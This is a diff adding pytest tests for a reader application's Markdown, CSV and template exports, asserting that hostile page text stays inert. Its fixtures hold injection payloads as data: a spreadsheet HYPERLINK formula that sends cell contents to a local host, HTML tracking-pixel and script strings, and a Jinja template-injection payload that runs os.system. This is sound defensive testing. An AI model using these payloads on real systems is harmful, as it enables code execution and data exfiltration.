@@ -1,0 +1,169 @@
+"""Exports carry page text as text (issue 13, section 4): Markdown renders page
+text as exactly those words, CSV cells never start a formula, templates only render."""
+
+from __future__ import annotations
+
+import csv
+import re
+from pathlib import Path
+
+import pytest
+from markdown_it import MarkdownIt
+
+from reader.core import Library
+from reader.core.export import export_articles
+from reader.core.export.common import reading_order
+
+URL = "https://example.org/hostile.html"
+TITLE = '<<loosey-goosey>> & <img src="http://127.0.0.1:9/t.png"> ![x](http://127.0.0.1:9/p.png)'
+AUTHOR = "*Ann* [Example](http://127.0.0.1:9/a) <b>bold</b>"
+SITE = '=HYPERLINK("http://127.0.0.1:9/?"&A2, "click")'
+LINES = [
+    "The royal road was <<loosey-goosey>> at best, the survey said, and nobody on it disagreed.",
+    'A pixel: <img src="http://127.0.0.1:9/pixel.png"> and an image ![x](http://127.0.0.1:9/p.png) in the text.',
+    "# not a heading, 1. not a list, - not an item, | not | a table |, ==not marked== and %%not hidden%%.",
+    "[[not a link]] and [a](http://127.0.0.1:9/) and <http://127.0.0.1:9/> and &lt; and &amp; $x$ ^block \\ done.",
+    "=SUM(A1:A9) starts this line, a formula in a spreadsheet if nothing is done about it.",
+    "-2+3 and @mention start cells too, and <script>alert(1)</script> is only words here.",
+]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path):
+    from html import escape
+
+    page = tmp_path / "hostile.html"
+    paragraphs = "".join(f"<p>{escape(line)}</p>" for line in LINES)
+    page.write_text(
+        f"<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'><title>{escape(TITLE)}</title>"
+        f"<meta name='author' content='{escape(AUTHOR, quote=True)}'>"
+        f"<meta property='og:site_name' content='{escape(SITE, quote=True)}'>"
+        f"<link rel='canonical' href='{URL}'></head><body><article><h1>{escape(TITLE)}</h1>{paragraphs}"
+        "<p>Enough ordinary words follow so that the extractor keeps this article as an article and does "
+        "not mistake it for a fragment of navigation or a teaser card on some other page entirely.</p>"
+        "</article></body></html>", "utf-8")
+    library = Library.open(tmp_path / "lib")
+    [outcome] = library.import_paths([page])
+    assert outcome.status == "imported", outcome.error
+    article_id = outcome.id
+    text = library.get(article_id).text
+    for line in LINES:
+        start = text.index(line[:40])
+        library.add_highlight(article_id, start, start + len(line), note="=user note *in Markdown*")
+    yield library, article_id
+    library.close()
+
+
+def _inline_text(token) -> str:
+    parts = []
+    for child in token.children or ():
+        if child.type in ("text", "code_inline"):
+            parts.append(child.content)
+        elif child.type in ("softbreak", "hardbreak"):
+            parts.append("\n")
+        else:
+            parts.append(f"[{child.type}]")  # anything else is not plain text
+    return "".join(parts)
+
+
+def _rendered(markdown_text: str) -> tuple[list[str], list[str], list]:
+    """(block quote texts, h1 texts, every inline child token) as a CommonMark viewer sees them."""
+    body = markdown_text.split("\n---\n", 1)[1] if markdown_text.startswith("---\n") else markdown_text
+    tokens = MarkdownIt("commonmark").parse(body)
+    quotes, headings, children = [], [], []
+    depth = 0
+    heading = False
+    for token in tokens:
+        if token.type == "blockquote_open":
+            depth += 1
+            quotes.append("")
+        elif token.type == "blockquote_close":
+            depth -= 1
+        elif token.type == "heading_open":
+            heading = token.tag == "h1"
+        elif token.type == "inline":
+            children.extend(token.children or ())
+            if depth:
+                quotes[-1] += ("\n\n" if quotes[-1] else "") + _inline_text(token)
+            if heading:
+                headings.append(_inline_text(token))
+                heading = False
+        elif token.type in ("html_block", "code_block", "fence"):
+            children.append(token)
+    return quotes, headings, children
+
+
+def _words(text: str) -> str:
+    return " ".join(text.split())
+
+
+@pytest.mark.parametrize("single", [False, True])
+def test_every_quote_and_title_renders_as_the_page_text(hostile, tmp_path, single):
+    library, article_id = hostile
+    out = tmp_path / ("all.md" if single else "notes")
+    result = export_articles(library, "md", out)
+    article = library.get(article_id)
+    assert article.title == TITLE and article.site == SITE and "*Ann*" in article.author  # the page as given
+    for path in result.paths:
+        quotes, headings, children = _rendered(path.read_text("utf-8"))
+        assert headings == [TITLE]
+        assert [_words(q) for q in quotes] == [_words(h.quote) for h in reading_order(article)]
+        kinds = {c.type for c in children}
+        assert not kinds & {"html_inline", "html_block", "image"}, kinds
+        links = [c.attrs.get("href") for c in children if c.type == "link_open"]
+        assert links == [URL], links  # only the article's own address is a link
+        text = path.read_text("utf-8")
+        shown = _words(" ".join(_inline_text(t) for t in MarkdownIt("commonmark").parse(
+            text.split("\n---\n", 1)[-1]) if t.type == "inline"))
+        assert _words(article.author) in shown and _words(SITE) in shown
+        assert "=user note *in Markdown*" in text  # the user's own note stays Markdown
+
+
+def test_markdown_escape_filter_is_there_for_user_templates(hostile, tmp_path):
+    library, article_id = hostile
+    template = tmp_path / "mine.md.j2"
+    template.write_text("# {{ article.title | md }}\n\n{% for h in highlights %}{{ h.quote | quote_block }}\n\n"
+                        "{% endfor %}", "utf-8")
+    [path] = export_articles(library, "md", tmp_path / "out", template=template).paths
+    quotes, headings, children = _rendered(path.read_text("utf-8"))
+    assert headings == [TITLE] and len(quotes) == len(LINES)
+    assert not {c.type for c in children} & {"html_inline", "html_block", "image", "link_open"}
+
+
+def test_csv_cells_never_start_a_formula(hostile, tmp_path):
+    library, article_id = hostile
+    export_articles(library, "csv", tmp_path / "out.csv")
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(LINES)
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert rows[0]["Note"] == "'=user note *in Markdown*"  # whatever the source
+    by_quote = {r["Highlight"]: r for r in rows}
+    assert "'" + LINES[4] in by_quote and "'" + LINES[5] in by_quote
+    assert LINES[0] in by_quote  # other cells as they are
+    assert rows[0]["Title"] == TITLE
+
+
+def test_templates_render_in_a_sandbox(hostile, tmp_path):
+    library, article_id = hostile
+    marker = tmp_path / "PWNED"
+    template = tmp_path / "evil.md.j2"
+    template.write_text(f'{{{{ cycler.__init__.__globals__.os.system("touch {marker}") }}}}\n', "utf-8")
+    with pytest.raises(ValueError, match=r"unsafe") as caught:
+        export_articles(library, "md", tmp_path / "out", template=template)
+    assert str(template) in str(caught.value)
+    assert not marker.exists()
+
+
+def test_an_unknown_variable_names_the_template_file_and_line(hostile, tmp_path):
+    library, article_id = hostile
+    template = tmp_path / "typo.md.j2"
+    template.write_text("# {{ article.title | md }}\n\n{% if article.note %}\n{{ article.notte }}\n{% endif %}\n"
+                        "{{ article.titel }}\n", "utf-8")
+    with pytest.raises(ValueError) as caught:
+        export_articles(library, "md", tmp_path / "out", template=template)
+    message = str(caught.value)
+    assert re.fullmatch(rf"template {re.escape(str(template))}, line 6: .*'titel'.*", message), message
+    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").glob("*.md"))
